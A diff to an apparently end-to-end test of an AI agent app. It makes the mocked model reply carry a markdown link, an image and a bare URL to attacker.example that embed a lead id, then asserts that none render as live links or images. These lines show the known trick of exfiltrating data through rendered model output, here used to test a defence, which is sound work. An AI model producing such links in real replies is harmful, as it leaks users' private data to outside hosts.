@@ -22,7 +22,9 @@ test.beforeAll(async () => {
           ["leads_update", { id, name: "Taken" }],
         ],
       };
-    return { text: `The largest is [this one](/leads?id=${id}), **of those that you see**.` };
+    return {
+      text: `The largest is [this one](/leads?id=${id}), **of those that you see**. [Elsewhere](https://attacker.example/?${id}) ![it](https://attacker.example/${id}.png) https://attacker.example/`,
+    };
   });
   tandem = await launch(await freePort(), ["--demo"], undefined, { TANDEM_PRIVATE_HOSTS: "127.0.0.1" });
 });
@@ -56,6 +58,9 @@ test("somebody asks the agents a question, from the tasks and from a lead: the a
   await form.getByLabel("Question").press("Control+Enter");
   const task = claire.getByRole("complementary", { name: "Task for an agent" });
   await expect(task.getByText("The largest is")).toBeVisible({ timeout: 30_000 });
+  // What a model writes leads nowhere else.
+  await expect(task.getByText("Elsewhere")).toBeVisible();
+  await expect(task.locator("[href*='attacker'], [src*='attacker']")).toHaveCount(0);
   const steps = task.getByRole("region", { name: "Steps" }).getByRole("listitem");
   await expect(steps).toHaveText([
     /Asked gpt-4o-mini.*20 tokens read · 5 written/,
